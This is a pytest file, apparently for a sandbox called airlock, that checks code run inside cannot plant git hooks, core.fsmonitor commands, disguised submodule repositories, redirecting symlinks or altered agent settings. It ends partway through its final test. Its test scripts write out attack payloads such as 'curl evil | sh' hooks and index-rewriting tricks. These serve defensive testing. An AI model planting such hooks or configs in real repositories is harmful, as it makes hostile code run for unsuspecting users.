"""``airlock run``: hooks git runs from elsewhere than ``.git/hooks`` are read-only inside."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tempfile
import time
from pathlib import Path

import pytest

from tests.cli import airlock, run_script


def _git(project: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(project), *args], check=True, capture_output=True)


def _run(tmp_path: Path, script: str) -> subprocess.CompletedProcess[str]:
    return airlock(
        "run", "--audit-log", str(tmp_path / "audit.jsonl"), "--", "sh", "-c", script, timeout=180
    )


@pytest.mark.parametrize("existing", [True, False], ids=["folder_there", "folder_missing"])
def test_the_hooks_path_folder_is_read_only(tmp_path: Path, project: Path, existing: bool) -> None:
    """core.hooksPath (husky's .husky): its hooks cannot be written or created inside."""
    _git(project, "init", "-q")
    _git(project, "config", "core.hooksPath", ".husky")
    if existing:
        (project / ".husky").mkdir()
        (project / ".husky" / "pre-commit").write_text("npm test\n")
    done = _run(
        tmp_path,
        "mkdir -p .husky 2>/dev/null; echo 'curl evil | sh' > .husky/pre-commit 2>/dev/null "
        "|| echo refused; echo ok > file",
    )
    assert done.returncode == 0, done.stderr
    assert "refused" in done.stdout
    hook = project / ".husky" / "pre-commit"
    assert (hook.read_text() == "npm test\n") if existing else not hook.exists()
    assert (project / "file").read_text() == "ok\n"


def test_what_a_hook_links_to_is_read_only(tmp_path: Path, project: Path) -> None:
    """A hook that is a link into the work tree: what it names cannot be rewritten inside."""
    _git(project, "init", "-q")
    (project / "scripts").mkdir()
    (project / "scripts" / "pre-commit").write_text("make lint\n")
    (project / ".git" / "hooks" / "pre-commit").symlink_to("../../scripts/pre-commit")
    done = _run(
        tmp_path,
        "echo 'curl evil | sh' > scripts/pre-commit 2>/dev/null || echo refused; "
        "echo ok > scripts/other",
    )
    assert done.returncode == 0, done.stderr
    assert "refused" in done.stdout
    assert (project / "scripts" / "pre-commit").read_text() == "make lint\n"
    assert (project / "scripts" / "other").read_text() == "ok\n"


def test_the_worktree_config_is_read_only(tmp_path: Path, project: Path) -> None:
    """With extensions.worktreeConfig on, .git/config.worktree (there or not) cannot be written;
    git inside still works."""
    _git(project, "init", "-q")
    _git(project, "config", "extensions.worktreeConfig", "true")
    done = _run(
        tmp_path,
        "printf '[core]\\n\\tfsmonitor = touch PWNED\\n' > .git/config.worktree 2>/dev/null "
        "|| echo refused; git status --short > /dev/null && echo git-works",
    )
    assert done.returncode == 0, done.stderr
    assert "refused" in done.stdout and "git-works" in done.stdout
    assert not (project / ".git" / "config.worktree").exists()


def test_a_bare_repositorys_config_is_read_only_from_its_worktree(
    tmp_path: Path, project: Path
) -> None:
    """A bare repository with a worktree in the workspace: the common folder's config and hooks
    (what git in the worktree uses) cannot be written inside."""
    source = tmp_path / "source"
    subprocess.run(["git", "init", "-q", str(source)], check=True)
    (source / "README").write_text("x\n")
    _git(source, "add", "README")
    _git(source, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "x")
    subprocess.run(
        ["git", "clone", "-q", "--bare", str(source), str(project / "repo.git")], check=True
    )
    _git(project / "repo.git", "worktree", "add", "-q", str(project / "wt1"))
    config = (project / "repo.git" / "config").read_text()
    done = _run(
        tmp_path,
        "echo '[core] fsmonitor = x' >> repo.git/config 2>/dev/null || echo config-refused; "
        "echo 'curl evil | sh' > repo.git/hooks/post-checkout 2>/dev/null || echo hooks-refused",
    )
    assert done.returncode == 0, done.stderr
    assert "config-refused" in done.stdout and "hooks-refused" in done.stdout
    assert (project / "repo.git" / "config").read_text() == config


def test_a_submodules_git_folder_is_read_only_before_it_is_checked_out(
    tmp_path: Path, project: Path
) -> None:
    """.git/modules/NAME there without its work tree: its hooks and config cannot be written."""
    _git(project, "init", "-q")
    module = project / ".git" / "modules" / "lib"
    subprocess.run(["git", "init", "-q", "--bare", str(module)], check=True)
    done = _run(
        tmp_path,
        "echo 'curl evil | sh' > .git/modules/lib/hooks/post-checkout 2>/dev/null || echo refused",
    )
    assert done.returncode == 0, done.stderr
    assert "refused" in done.stdout
    assert not (module / "hooks" / "post-checkout").exists()


def test_a_submodule_git_folder_made_inside_is_made_safe(tmp_path: Path, project: Path) -> None:
    """A git folder made under .git/modules during the run (for a submodule not checked out
    yet, which the user's git submodule update would reuse) has its hooks emptied after."""
    _git(project, "init", "-q")
    done = _run(
        tmp_path,
        "git init -q --bare .git/modules/lib && "
        "echo 'curl evil | sh' > .git/modules/lib/hooks/post-checkout && "
        "git config -f .git/modules/lib/config core.fsmonitor 'touch PWNED'",
    )
    assert done.returncode == 0, done.stderr
    module = project / ".git" / "modules" / "lib"
    assert list((module / "hooks").iterdir()) == []
    assert "fsmonitor" not in (module / "config").read_text()
    assert "modules/lib: made inside the sandbox; hooks emptied" in done.stderr


def test_a_workspace_made_a_git_folder_inside_is_undone(
    tmp_path: Path, project: Path, config_dir: Path
) -> None:
    """Code inside that makes the workspace itself a git folder (HEAD, objects, refs, and a
    config git would run) finds its HEAD and config set aside after the run."""
    done = _run(
        tmp_path,
        "git init -q --bare . && git config -f config core.fsmonitor 'touch PWNED'",
    )
    assert done.returncode == 0, done.stderr
    assert not (project / "HEAD").exists() and not (project / "config").exists()
    [run] = list((config_dir / "airlock" / "set-aside").iterdir())
    assert "fsmonitor" in (run / "config").read_text()
    status = subprocess.run(["git", "-C", str(project), "status"], capture_output=True, text=True)
    assert not (project / "PWNED").exists()
    assert "not a git repository" in status.stderr


@pytest.mark.parametrize("hooks_path", [".", "/"], ids=["the_work_tree", "the_root"])
def test_a_hooks_path_holding_the_work_tree_still_runs(
    tmp_path: Path, project: Path, hooks_path: str
) -> None:
    """core.hooksPath naming the work tree or / cannot be made read-only without the whole
    workspace: the run goes on, and the rest of the workspace is writable."""
    _git(project, "init", "-q")
    _git(project, "config", "core.hooksPath", hooks_path)
    done = _run(tmp_path, "echo ok > file")
    assert done.returncode == 0, done.stderr
    assert (project / "file").read_text() == "ok\n"


def test_a_hooks_path_naming_the_work_tree_keeps_each_hook_read_only(
    tmp_path: Path, project: Path, config_dir: Path
) -> None:
    """core.hooksPath = . (the work tree): an existing hook's file there cannot be changed
    inside, nor what one links to; a new one (pre-commit, post-checkout) can be written, as
    the folder is the project's, and git works inside, but it is set aside after the run;
    other files are written as usual, and no placeholder is left."""
    _git(project, "init", "-q")
    _git(project, "config", "core.hooksPath", ".")
    (project / "pre-push").write_text("make test\n")
    (project / "scripts").mkdir()
    (project / "scripts" / "check").write_text("make lint\n")
    (project / "commit-msg").symlink_to("scripts/check")
    before = sorted(path.name for path in project.iterdir())
    done = _run(
        tmp_path,
        "for hook in pre-push commit-msg scripts/check; do "
        "echo 'curl evil | sh' > $hook 2>/dev/null && echo WROTE $hook; done; "
        "echo 'curl evil | sh' > pre-commit && echo 'curl evil | sh' > post-checkout; "
        "git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && echo committed; "
        "echo ok > notes.txt",
    )
    assert done.returncode == 0, done.stderr
    assert "WROTE" not in done.stdout, done.stdout
    assert "committed" in done.stdout, done.stdout + done.stderr
    assert (project / "pre-push").read_text() == "make test\n"
    assert (project / "scripts" / "check").read_text() == "make lint\n"
    assert (project / "notes.txt").read_text() == "ok\n"
    assert sorted(path.name for path in project.iterdir()) == sorted([*before, "notes.txt"])
    [run] = list((config_dir / "airlock" / "set-aside").iterdir())
    assert "curl evil" in (run / "hooks" / "pre-commit").read_text()
    assert (run / "hooks" / "post-checkout").exists()
    assert "pre-commit" in done.stderr


def test_a_hooks_path_that_is_no_folder_changes_nothing(tmp_path: Path, project: Path) -> None:
    """core.hooksPath = /dev/null (hooks turned off, often set for every repository): nothing
    is bound there, and the command and git work as usual."""
    _git(project, "init", "-q")
    _git(project, "config", "core.hooksPath", "/dev/null")
    done = _run(tmp_path, "echo x > /dev/null && git status --short >/dev/null && echo fine")
    assert done.returncode == 0, done.stderr
    assert "fine" in done.stdout, done.stdout + done.stderr


def test_links_on_the_way_to_the_hooks_come_back(
    tmp_path: Path, project: Path, config_dir: Path
) -> None:
    """core.hooksPath = .githooks, a link to tools/hooks, and a hook in .git/hooks linking to
    scripts/pre-push, where scripts is a link to tools: code inside that replaces either link
    by a folder of its own with a hook in it finds the folder set aside and the link back
    after the run, and was told before it ran."""
    _git(project, "init", "-q")
    (project / "tools" / "hooks").mkdir(parents=True)
    (project / "tools" / "pre-push").write_text("make test\n")
    (project / ".githooks").symlink_to("tools/hooks")
    (project / "scripts").symlink_to("tools")
    (project / ".git" / "hooks" / "pre-push").symlink_to("../../scripts/pre-push")
    _git(project, "config", "core.hooksPath", ".githooks")
    done = _run(
        tmp_path,
        "rm .githooks && mkdir .githooks && echo 'curl evil | sh' > .githooks/pre-commit; "
        "rm scripts && mkdir scripts && echo 'curl evil | sh' > scripts/pre-push; "
        "echo replaced",
    )
    assert done.returncode == 0, done.stderr
    assert "replaced" in done.stdout, done.stdout + done.stderr
    for name, target in ((".githooks", "tools/hooks"), ("scripts", "tools")):
        link = project / name
        assert link.is_symlink() and str(link.readlink()) == target, name
        assert f"{link} is a link (to {target}) in a folder the command can write" in done.stderr
    assert (project / "tools" / "pre-push").read_text() == "make test\n"
    assert list((project / "tools" / "hooks").iterdir()) == []
    [run] = list((config_dir / "airlock" / "set-aside").iterdir())
    kept = run / "links" / project.relative_to("/")
    assert "curl evil" in (kept / ".githooks" / "pre-commit").read_text()
    assert "curl evil" in (kept / "scripts" / "pre-push").read_text()


def test_a_workspace_made_a_git_folder_through_commondir_is_undone(
    tmp_path: Path, project: Path, config_dir: Path
) -> None:
    """A HEAD and a commondir naming a bare repository made inside (whose config would run a
    program) make git take the workspace for a git folder too: both are set aside."""
    done = _run(
        tmp_path,
        "git init -q --bare x && git --git-dir=x config core.fsmonitor 'touch PWNED' && "
        "echo 'ref: refs/heads/main' > HEAD && echo x > commondir",
    )
    assert done.returncode == 0, done.stderr
    assert not (project / "HEAD").exists() and not (project / "commondir").exists()
    status = subprocess.run(["git", "-C", str(project), "status"], capture_output=True, text=True)
    assert not (project / "PWNED").exists()
    assert "not a git repository" in status.stderr


@pytest.mark.parametrize(
    "make",
    [
        "git init -q sub && git -C sub config core.fsmonitor 'touch ../PWNED'",
        "git init -q --bare build/x.git && git --git-dir=build/x.git config core.fsmonitor "
        "'touch PWNED' && mkdir -p vendor/lib && echo 'gitdir: ../../build/x.git' > vendor/lib/.git",
    ],
    ids=["a_git_folder", "a_git_file_naming_one"],
)
def test_a_repository_made_in_a_subfolder_is_made_safe(
    tmp_path: Path, project: Path, make: str
) -> None:
    """A repository made in a subfolder during the run (a .git folder, or a .git file naming a
    git folder made in the workspace) has its config cut down after it: no program it names
    runs for the user's git later."""
    _git(project, "init", "-q")
    done = _run(tmp_path, make)
    assert done.returncode == 0, done.stderr
    assert "made inside the sandbox; hooks emptied, config keys dropped: core.fsmonitor" in (
        done.stderr
    )
    configs = [*project.glob("sub/.git/config"), *project.glob("build/x.git/config")]
    assert configs and all("fsmonitor" not in config.read_text() for config in configs)
    for folder in ("sub", "vendor/lib"):
        if (project / folder).exists():
            subprocess.run(["git", "-C", str(project / folder), "status"], capture_output=True)
    assert not (project / "PWNED").exists()


def test_a_repository_on_another_file_system_stays_held(tmp_path: Path, project: Path) -> None:
    """With airlock's state on another file system than the workspace (here a home in
    /dev/shm), a repository made inside is made safe but never copied: it stays held, and the
    run says how to move it."""
    home = Path(tempfile.mkdtemp(dir="/dev/shm"))
    try:
        assert home.stat().st_dev != project.stat().st_dev, "/dev/shm is not a tmpfs here"
        done = run_script(tmp_path, "git init -q && echo made", env={"HOME": str(home)})
        assert done.returncode == 0, done.stderr
        assert "made" in done.stdout
        assert "on another file system than the workspace (it is never copied)" in done.stderr
        assert not (project / ".git").exists()
    finally:
        shutil.rmtree(home)


GITLINK = "1111111111111111111111111111111111111111"  # a submodule's commit: never looked up


def _plant_linked(folder: str, index_of: str = ".") -> str:
    """A script for inside: a repository at ``folder`` whose config runs a program, named as a
    submodule (a gitlink) in the index of the repository at ``index_of``."""
    name = os.path.relpath(folder, index_of)
    return (
        f"git init -q {folder} && git -C {folder} config core.fsmonitor 'touch \"$PWD/PWNED\"; false'"
        f" && git -C {index_of} update-index --add --cacheinfo 160000,{GITLINK},{name}"
    )


@pytest.mark.parametrize(
    "folder",
    ["node_modules/evil", ".venv/lib/evil", "a/b/c/d/e/deep"],
    ids=["in_node_modules", "in_a_venv", "past_the_scans_depth"],
)
def test_a_repository_the_index_names_as_a_submodule_is_made_safe(
    tmp_path: Path, project: Path, folder: str
) -> None:
    """Where no scan looks, code inside makes a repository whose config runs a program and
    names it in the root's index as a submodule: the user's git status at the root would run
    it. After the run its config is cut down (the old one kept aside) and nothing runs."""
    _git(project, "init", "-q")
    done = _run(tmp_path, _plant_linked(folder))
    assert done.returncode == 0, done.stderr
    assert f"{folder}/.git: named as a submodule by {project}'s index" in done.stderr
    assert "config keys dropped: core.fsmonitor" in done.stderr
    status = subprocess.run(["git", "status"], cwd=project, capture_output=True, text=True)
    assert folder in status.stdout  # git looked at the submodule
    assert not (project / "PWNED").exists()
    kept = list((project / folder / ".git").glob("config.removed-*"))
    assert len(kept) == 1 and "fsmonitor" in kept[0].read_text()


def test_a_git_file_the_index_names_is_followed_to_its_git_folder(
    tmp_path: Path, project: Path
) -> None:
    """The submodule's ``.git`` a file naming a git folder made elsewhere in the workspace."""
    _git(project, "init", "-q")
    script = (
        "git init -q --bare node_modules/.cache/x.git"
        " && git --git-dir=node_modules/.cache/x.git config core.fsmonitor "
        "'touch \"$PWD/PWNED\"; false' && git --git-dir=node_modules/.cache/x.git config "
        "core.bare false && mkdir -p node_modules/lib"
        " && echo 'gitdir: ../.cache/x.git' > node_modules/lib/.git"
        f" && git update-index --add --cacheinfo 160000,{GITLINK},node_modules/lib"
    )
    done = _run(tmp_path, script)
    assert done.returncode == 0, done.stderr
    assert "node_modules/lib/.git: named as a submodule" in done.stderr
    subprocess.run(["git", "status"], cwd=project, capture_output=True, check=True)
    assert not (project / "PWNED").exists()
    assert "fsmonitor" not in (project / "node_modules/.cache/x.git/config").read_text()


def test_submodules_named_by_a_nested_repositorys_index_are_followed(
    tmp_path: Path, project: Path
) -> None:
    """The root names ``sub`` (there at the start); code inside makes a repository in
    ``sub/node_modules`` and names it in ``sub``'s index: git status at the root goes
    through ``sub`` into it."""
    _git(project, "init", "-q")
    (project / "sub").mkdir()
    _git(project / "sub", "init", "-q")
    _git(project, "update-index", "--add", "--cacheinfo", f"160000,{GITLINK},sub")
    done = _run(tmp_path, _plant_linked("sub/node_modules/evil", index_of="sub"))
    assert done.returncode == 0, done.stderr
    assert "sub/node_modules/evil/.git: named as a submodule by" in done.stderr
    subprocess.run(["git", "status"], cwd=project, capture_output=True, check=True)
    assert not (project / "PWNED").exists()


def test_a_linked_repository_the_run_did_not_touch_is_left_alone(
    tmp_path: Path, project: Path
) -> None:
    """A submodule in node_modules that was there before the run, and that the run did not
    change, keeps its config whole (even a key a repository made inside would lose)."""
    _git(project, "init", "-q")
    lib = project / "node_modules" / "lib"
    lib.mkdir(parents=True)
    _git(lib, "init", "-q")
    _git(lib, "config", "core.worktree", str(lib))
    _git(project, "update-index", "--add", "--cacheinfo", f"160000,{GITLINK},node_modules/lib")
    config = (lib / ".git" / "config").read_text()
    time.sleep(1.2)  # past the slack airlock gives the kernel's clock
    done = _run(tmp_path, "git -C node_modules/lib status --short && echo looked")
    assert done.returncode == 0, done.stderr
    assert "looked" in done.stdout
    assert "named as a submodule" not in done.stderr
    assert (lib / ".git" / "config").read_text() == config
    assert not list((lib / ".git").glob("*.removed-*"))


def test_an_index_that_cannot_be_read_is_said(tmp_path: Path, project: Path) -> None:
    """Code inside breaks the root's index: the submodules it names cannot be checked, and
    the run says where to look."""
    _git(project, "init", "-q")
    done = _run(tmp_path, "printf 'DIRC broken' > .git/index")
    assert done.returncode == 0, done.stderr
    assert f"{project}: its index could not be read" in done.stderr
    assert "git ls-files --stage" in done.stderr


_EVIL = "config core.fsmonitor 'touch \"$PWD/PWNED\"; false'"
_RENAME_IN_INDEX = (  # one entry renamed in place, the checksum fixed: names git add refuses
    'python3 -c \'import hashlib, sys; d = open(".git/index", "rb").read()[:-20]; '
    "d = d.replace(sys.argv[1].encode() + bytes(1), sys.argv[2].encode() + bytes(1)); "
    'open(".git/index", "wb").write(d + hashlib.sha1(d).digest())\''
)


@pytest.mark.parametrize(
    "script",
    [
        pytest.param(
            f"git init -q node_modules/evil && git -C node_modules/evil {_EVIL}"
            f" && git update-index --add --cacheinfo 160000,{GITLINK},node_modules/evilX"
            f" && {_RENAME_IN_INDEX} node_modules/evilX node_modules//evil",
            id="a_name_git_add_refuses",
        ),
        pytest.param(
            "mkdir -p node_modules/a node_modules/b"
            " && git init -q --bare node_modules/a/x && git init -q --bare node_modules/b/x"
            f" && git --git-dir=node_modules/b/x config core.bare false"
            f" && git --git-dir=node_modules/b/x {_EVIL}"
            " && echo 'gitdir: x' > node_modules/a/.git && ln -s ../a/.git node_modules/b/.git"
            f" && git update-index --add --cacheinfo 160000,{GITLINK},node_modules/a"
            f" && git update-index --add --cacheinfo 160000,{GITLINK},node_modules/b",
            id="a_git_link_to_a_git_file_read_from_the_links_folder",
        ),
        pytest.param(
            "mkdir -p node_modules/lib && git init -q --bare 'node_modules/lib/x '"
            " && git --git-dir='node_modules/lib/x ' config core.bare false"
            f" && git --git-dir='node_modules/lib/x ' {_EVIL}"
            " && git init -q --bare node_modules/lib/x"
            " && printf 'gitdir: x \\n' > node_modules/lib/.git"
            f" && git update-index --add --cacheinfo 160000,{GITLINK},node_modules/lib",
            id="a_git_file_read_as_git_reads_it",
        ),
        pytest.param(
            "G=$HOME/.claude/projects/.cache.git && git init -q --bare $G"
            f" && git --git-dir=$G config core.bare false && git --git-dir=$G {_EVIL}"
            ' && mkdir -p node_modules/lib && echo "gitdir: $G" > node_modules/lib/.git'
            f" && git update-index --add --cacheinfo 160000,{GITLINK},node_modules/lib",
            id="a_git_folder_in_the_agents_state",
        ),
        pytest.param(
            "mkdir -p node_modules/lib && git init -q --bare node_modules/lib/g"
            f" && git --git-dir=node_modules/lib/g config core.bare false"
            f" && git --git-dir=node_modules/lib/g {_EVIL}"
            " && printf 'gitdir: g\\000\\n' > node_modules/lib/.git"
            f" && git update-index --add --cacheinfo 160000,{GITLINK},node_modules/lib",
            id="a_git_file_read_up_to_a_nul",
        ),
        pytest.param(
            "git init -q node_modules/a"
            " && mkdir -p node_modules/b && echo 'gitdir: ../a/.git' > node_modules/b/.git"
            f" && git init -q node_modules/b/evil && git -C node_modules/b/evil {_EVIL}"
            f" && git -C node_modules/a update-index --add --cacheinfo 160000,{GITLINK},evil"
            f" && git update-index --add --cacheinfo 160000,{GITLINK},node_modules/a"
            f" && git update-index --add --cacheinfo 160000,{GITLINK},node_modules/b",
            id="one_git_folder_for_two_work_trees",
        ),
    ],
)
def test_submodules_git_would_use_are_the_ones_made_safe(
    tmp_path: Path, project: Path, script: str
) -> None:
    """Each submodule is looked at as git looks at it: its name as the index holds it, a
    ``.git`` file read whole through a link and relative to the folder it is named in, a git
    folder outside the workspace that the sandbox could write. The user's git status runs
    nothing."""
    _git(project, "init", "-q")
    done = _run(tmp_path, script)
    assert done.returncode == 0, done.stderr
    assert "config keys dropped: core.fsmonitor" in done.stderr
    subprocess.run(["git", "status"], cwd=project, capture_output=True, check=False)
    assert not list(tmp_path.rglob("PWNED"))


def _two_runs(
    tmp_path: Path, project: Path, first: str, second: str
) -> subprocess.CompletedProcess[str]:
    """Two runs in a new repository, the second past the slack given to the kernel's clock;
    the second's result, once the user's git status at the root has run nothing."""
    _git(project, "init", "-q")
    done = _run(tmp_path, first)
    assert done.returncode == 0, done.stderr
    time.sleep(1.2)
    done = _run(tmp_path, second)
    assert done.returncode == 0, done.stderr
    subprocess.run(["git", "status"], cwd=project, capture_output=True, check=False)
    assert not (project / "PWNED").exists()
    return done


def test_a_repository_moved_behind_a_name_the_index_held_is_made_safe(
    tmp_path: Path, project: Path
) -> None:
    """A first run names ``node_modules/x`` (nothing there) and makes a repository elsewhere;
    a second only renames it to ``x``: nothing in it changed, but something else stands
    behind the name than at the start."""
    second = _two_runs(
        tmp_path,
        project,
        f"git init -q node_modules/y && git -C node_modules/y {_EVIL}"
        f" && git update-index --add --cacheinfo 160000,{GITLINK},node_modules/x",
        "mv node_modules/y node_modules/x",
    )
    assert "node_modules/x/.git: named as a submodule" in second.stderr


def test_a_repository_made_in_one_run_and_named_in_the_next_is_made_safe(
    tmp_path: Path, project: Path
) -> None:
    """A first run makes the repository where no scan looks and names it nowhere; a second
    only adds it to the index: it is the index that changed, and it did not name it before."""
    second = _two_runs(
        tmp_path,
        project,
        f"git init -q node_modules/evil && git -C node_modules/evil {_EVIL}",
        f"git update-index --add --cacheinfo 160000,{GITLINK},node_modules/evil",
    )
    assert "node_modules/evil/.git: named as a submodule" in second.stderr


@pytest.mark.parametrize(
    "there", [True, False], ids=["included_file_there", "included_file_missing"]
)
def test_a_file_the_repositorys_config_includes_is_read_only(
    tmp_path: Path, project: Path, there: bool
) -> None:
    """The root's config includes a file of the workspace (``include.path = ../.gitconfig``):
    code inside can neither change nor make it, so the user's git reads no setting of its."""
    _git(project, "init", "-q")
    _git(project, "config", "include.path", "../shared.gitconfig")
    if there:
        (project / "shared.gitconfig").write_text("[diff]\n\trenames = true\n")
    done = _run(
        tmp_path,
        "printf '[core]\\n\\tfsmonitor = touch PWNED\\n' >> shared.gitconfig && echo WROTE;"
        " echo done",
    )
    assert done.returncode == 0, done.stderr
    assert "done" in done.stdout and "WROTE" not in done.stdout
    subprocess.run(["git", "status"], cwd=project, capture_output=True, check=False)
    assert not (project / "PWNED").exists()
    assert (
        not (project / "shared.gitconfig").exists()
        or "fsmonitor" not in (project / "shared.gitconfig").read_text()
    )


def test_an_include_into_the_sandboxs_own_folders_is_no_rule(tmp_path: Path, project: Path) -> None:
    """An include of ``/proc/self/environ`` or ``/dev/null`` names the sandbox's own: no rule
    for it (bubblewrap could not bind it), and the run goes on."""
    _git(project, "init", "-q")
    with (project / ".git" / "config").open("a") as config:
        config.write("[include]\n\tpath = /proc/self/environ\n\tpath = /dev/null\n")
    # A variable git cannot read as a config line: the include above then breaks every git
    # command in the workspace (as in any environment holding a quote), and the run goes on.
    done = run_script(tmp_path, "echo ran", env={"UNBALANCED": 'a"b'})
    assert done.returncode == 0, done.stderr
    assert "ran" in done.stdout


_APPEND_FSMONITOR = "printf '[core]\\n\\tfsmonitor = touch PWNED\\n' >> {} && echo WROTE; echo done"


def _no_write_and_nothing_runs(done: subprocess.CompletedProcess[str], status_in: Path) -> None:
    assert done.returncode == 0, done.stderr
    assert "done" in done.stdout and "WROTE" not in done.stdout
    subprocess.run(["git", "status"], cwd=status_in, capture_output=True, check=False)
    assert not list(status_in.parent.rglob("PWNED"))


def test_includes_of_the_users_config_where_xdg_config_home_says(
    tmp_path: Path, project: Path
) -> None:
    """``$XDG_CONFIG_HOME/git/config`` is the user's config git reads: its includes too."""
    _git(project, "init", "-q")
    xdg = tmp_path / "xdg"
    (xdg / "git").mkdir(parents=True)
    (xdg / "git" / "config").write_text(f"[include]\n\tpath = {project}/team.inc\n")
    (project / "team.inc").write_text("[diff]\n\trenames = true\n")
    done = run_script(
        tmp_path, _APPEND_FSMONITOR.format("team.inc"), env={"XDG_CONFIG_HOME": str(xdg)}
    )
    _no_write_and_nothing_runs(done, project)


def test_includes_of_the_repository_the_workspace_is_in(tmp_path: Path, project: Path) -> None:
    """Started in a subfolder of a repository: the repository's config (further up) and what
    it includes from the workspace."""
    _git(project, "init", "-q")
    (project / "tools").mkdir()
    (project / "tools" / "team.inc").write_text("[diff]\n\trenames = true\n")
    _git(project, "config", "include.path", "../tools/team.inc")
    done = run_script(tmp_path, _APPEND_FSMONITOR.format("team.inc"), cwd=project / "tools")
    _no_write_and_nothing_runs(done, project)


def test_a_missing_include_leaves_git_working_inside(tmp_path: Path, project: Path) -> None:
    """A missing include in the workspace is an empty file inside (git reads it as an empty
    config; a folder there would make git fail), gone after the run."""
    _git(project, "init", "-q")
    _git(project, "config", "include.path", "../local.gitconfig")
    done = _run(tmp_path, "git status --short >/dev/null && echo git-works")
    assert done.returncode == 0, done.stderr
    assert "git-works" in done.stdout
    assert not (project / "local.gitconfig").exists()


def test_includes_of_a_linked_user_config_are_read_as_git_reads_them(
    tmp_path: Path, project: Path, home: Path
) -> None:
    """``~/.gitconfig`` a link into a dotfiles folder, with a relative include: git reads the
    include against ``~``, where the link is named, not where it leads."""
    _git(project, "init", "-q")
    (home / "dotfiles").mkdir(parents=True, exist_ok=True)
    (home / "dotfiles" / "gitconfig").write_text(
        f"[include]\n\tpath = {os.path.relpath(project / 'team.inc', home)}\n"
    )
    (home / ".gitconfig").unlink(missing_ok=True)
    (home / ".gitconfig").symlink_to("dotfiles/gitconfig")
    (project / "team.inc").write_text("[diff]\n\trenames = true\n")
    done = run_script(tmp_path, _APPEND_FSMONITOR.format("team.inc"))
    _no_write_and_nothing_runs(done, project)


def test_a_global_config_in_the_workspace_is_read_only(tmp_path: Path, project: Path) -> None:
    """``GIT_CONFIG_GLOBAL`` naming a file of the workspace: the file itself is protected."""
    _git(project, "init", "-q")
    (project / "user.gitconfig").write_text("[diff]\n\trenames = true\n")
    done = run_script(
        tmp_path,
        _APPEND_FSMONITOR.format("user.gitconfig"),
        env={"GIT_CONFIG_GLOBAL": str(project / "user.gitconfig")},
    )
    _no_write_and_nothing_runs(done, project)


def _commit(project: Path, *args: str) -> None:
    _git(project, "-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", *args)


def test_links_made_in_the_git_folder_are_moved_aside(tmp_path: Path, project: Path) -> None:
    """``.git/logs/HEAD -> ~/.bashrc`` and ``.git/COMMIT_EDITMSG -> hooks/pre-commit`` made
    inside: git appends the reflog and writes the commit message through a link, so the
    user's next checkout or amend would write outside. They are moved aside after the run;
    a link the user had there before is left."""
    home = tmp_path / "home"
    bashrc = home / ".bashrc"
    bashrc.write_text("# mine\n")
    _git(project, "init", "-q")
    _commit(project, "--allow-empty", "-m", "one")
    (project / ".git" / "info").mkdir(exist_ok=True)
    (project / ".git" / "info" / "mine").symlink_to("../description")
    time.sleep(1.2)  # older than the run by more than the change times' slack
    done = run_script(
        tmp_path,
        f"ln -sf {bashrc} .git/logs/HEAD && ln -sf hooks/pre-commit .git/COMMIT_EDITMSG "
        "&& echo planted",
    )
    assert done.returncode == 0, done.stderr
    assert "planted" in done.stdout
    assert "made in a git folder during the run" in done.stderr
    assert not (project / ".git" / "logs" / "HEAD").is_symlink()
    assert not (project / ".git" / "COMMIT_EDITMSG").is_symlink()
    assert (project / ".git" / "info" / "mine").is_symlink()  # the user's own
    _git(project, "checkout", "-q", "-b", "other")
    _commit(project, "--amend", "--allow-empty", "--no-edit")
    assert bashrc.read_text() == "# mine\n"
    assert not (project / ".git" / "hooks" / "pre-commit").exists()


def test_hook_managers_and_agents_own_programs_cannot_be_changed(
    tmp_path: Path, project: Path
) -> None:
    """pre-commit's and lefthook's configs and husky's folder (their git hooks run them at the
    next commit), the agent's own install in ~/.claude/local, Codex's rules and Gemini's
    policies: read-only inside; another agent's or editor's project settings made in a
    subfolder (.zed, .devcontainer, opencode.json) are set aside after the run."""
    home = tmp_path / "home"
    for folder in (home / ".claude" / "local", home / ".codex", home / ".gemini"):
        folder.mkdir(parents=True, exist_ok=True)
    (home / ".claude" / "local" / "claude").write_text("#!/bin/sh\n")
    (project / ".pre-commit-config.yaml").write_text("repos: []\n")
    (project / "lefthook.yml").write_text("pre-commit: {}\n")
    (project / ".husky").mkdir()
    (project / ".husky" / "pre-commit").write_text("npm test\n")
    (project / "sub").mkdir()
    targets = [
        project / ".pre-commit-config.yaml",
        project / "lefthook.yml",
        project / ".husky" / "pre-commit",
        home / ".claude" / "local" / "claude",
        home / ".codex" / "rules" / "default.rules",
        home / ".gemini" / "policies" / "allow.toml",
    ]
    script = "".join(
        f"(echo evil >> {path}) 2>/dev/null && echo WROTE {path}; " for path in targets
    )
    script += "mkdir -p sub/.zed sub/.devcontainer && echo '{}' > sub/.zed/settings.json "
    script += (
        "&& echo '{}' > sub/.devcontainer/devcontainer.json && echo '{}' > sub/opencode.json; "
    )
    script += "echo done"
    done = _run(tmp_path, script)
    assert done.returncode == 0, done.stderr
    assert "done" in done.stdout and "WROTE" not in done.stdout, done.stdout
    for path in targets:
        assert not path.exists() or "evil" not in path.read_text()
    assert not (project / "sub" / ".zed").exists()
    assert not (project / "sub" / ".devcontainer").exists()
    assert not (project / "sub" / "opencode.json").exists()


def test_a_subfolder_made_a_git_folder_is_made_inert(tmp_path: Path, project: Path) -> None:
    """``HEAD``, ``objects``, ``refs`` and a ``config`` with ``core.fsmonitor`` made in a
    subfolder: git takes the folder for a bare repository and would run the monitor for
    whoever uses git there; its HEAD and config are set aside after the run."""
    script = (
        "mkdir -p deep/er/evil/objects deep/er/evil/refs && cd deep/er/evil && "
        "echo 'ref: refs/heads/main' > HEAD && "
        "printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = touch PWNED\\n' > config "
        "&& echo made"
    )
    done = _run(tmp_path, script)
    assert done.returncode == 0, done.stderr
    assert "made" in done.stdout
    evil = project / "deep" / "er" / "evil"
    assert not (evil / "HEAD").exists() and not (evil / "config").exists()
    subprocess.run(["git", "status"], cwd=evil, capture_output=True, check=False)
    assert not list(project.rglob("PWNED"))


def test_programs_the_settings_name_are_read_only(tmp_path: Path, project: Path) -> None:
    """A SessionStart hook's script in the project, the status line's script in ~/.claude and
    a project MCP server's program: the settings naming them are read-only, and so are they."""
    home = tmp_path / "home"
    (home / ".claude").mkdir(parents=True, exist_ok=True)
    (project / ".claude").mkdir()
